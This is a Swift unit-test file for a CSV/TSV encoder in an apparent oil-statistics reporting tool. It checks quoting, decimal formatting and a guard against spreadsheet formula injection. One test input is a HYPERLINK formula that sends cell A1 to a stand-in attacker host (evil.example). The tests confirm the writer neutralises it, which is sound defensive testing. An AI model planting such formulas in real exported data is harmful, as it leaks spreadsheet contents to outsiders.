import OilStatCore
import Testing

@testable import OilStatReport

/// The one CSV/TSV encoder: quoting, formula guard and numbers, with the probe's hostile country codes.
struct DelimitedWriterTests {
    static func csv(_ text: String, delimiter: Character = ",") -> String {
        var writer = DelimitedWriter(delimiter: delimiter, quoting: .quoted)
        writer.text(text)
        return String(decoding: writer.bytes, as: UTF8.self)
    }

    @Test(arguments: [
        (
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\""
        ),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("a,b\nc", "\"a,b\nc\""),
        ("x\"y", "\"x\"\"y\""),
        ("\tcalc", "'\tcalc"),
        ("\rcalc", "\"'\rcalc\""),
        ("SA", "SA"),
        ("Côte d'Ivoire", "Côte d'Ivoire"),
        ("", ""),
    ])
    func quotesAndGuardsTextAsCSV(text: String, expected: String) {
        #expect(Self.csv(text) == expected)
    }

    @Test func aMultiByteDelimiterIsFoundInsideFields() {
        #expect(Self.csv("a§b", delimiter: "§") == "\"a§b\"")
        #expect(Self.csv("a,b", delimiter: "§") == "a,b")
        var writer = DelimitedWriter(delimiter: "§", quoting: .quoted)
        writer.text("x")
        writer.number(1.5, decimals: 1)
        writer.endRecord()
        #expect(String(decoding: writer.bytes, as: UTF8.self) == "x§1.5\n")
    }

    @Test(arguments: [("a\tb\r\nc\rd\ne", "a b c d e"), ("=1\t2", "'=1 2"), ("q\"q", "q\"q")])
    func replacesSeparatorsInTSV(text: String, expected: String) {
        var writer = DelimitedWriter(delimiter: "\t", quoting: .replaced)
        writer.text(text)
        #expect(String(decoding: writer.bytes, as: UTF8.self) == expected)
    }

    @Test(arguments: [
        (-0.00001, 4, "0.0000"), (-0.0, 4, "0.0000"), (-0.04, 1, "0.0"), (-0.00005, 4, "-0.0001"),
        (-12.5, 1, "-12.5"), (0.78125, 4, "0.7812"), (2.00005, 4, "2.0000"), (1e12, 4, "1000000000000.0000"),
        (-1e-12, 2, "0.00"), (.nan, 4, ""), (.infinity, 2, ""), (-.infinity, 4, ""),
    ])
    func numbersArePlainWithoutNegativeZero(value: Double, decimals: Int, expected: String) {
        var writer = DelimitedWriter(delimiter: ",", quoting: .quoted)
        writer.number(value, decimals: decimals)
        #expect(String(decoding: writer.bytes, as: UTF8.self) == expected)
    }

    @Test func fourDecimalsAgreeWithTheGeneralFormatter() {
        // The fast four-decimal path and NumberText give the same field for the same double.
        var generator = SystemRandomNumberGenerator()
        for round in 0..<20_000 {
            let value =
                round % 2 == 0
                ? Double.random(in: -1e6...1e6, using: &generator)
                : Double(Int.random(in: -100_000...100_000, using: &generator)) / 32 - 0.00005
            var writer = DelimitedWriter(delimiter: ",", quoting: .quoted)
            writer.number(value, decimals: 4)
            var expected = NumberText.fixed(value, decimals: 4)
            if expected == "-0.0000" { expected = "0.0000" }
            #expect(String(decoding: writer.bytes, as: UTF8.self) == expected, "\(value)")
        }
    }

    @Test func fieldsAreSeparatedAndRecordsEndWithLF() {
        var writer = DelimitedWriter(delimiter: ";", quoting: .quoted)
        writer.text("a;b")
        writer.empty()
        writer.number(nil, decimals: 2)
        writer.number(3, decimals: 0)
        writer.endRecord()
        writer.text("next")
        writer.endRecord()
        #expect(String(decoding: writer.bytes, as: UTF8.self) == "\"a;b\";;;3\nnext\n")
    }
}
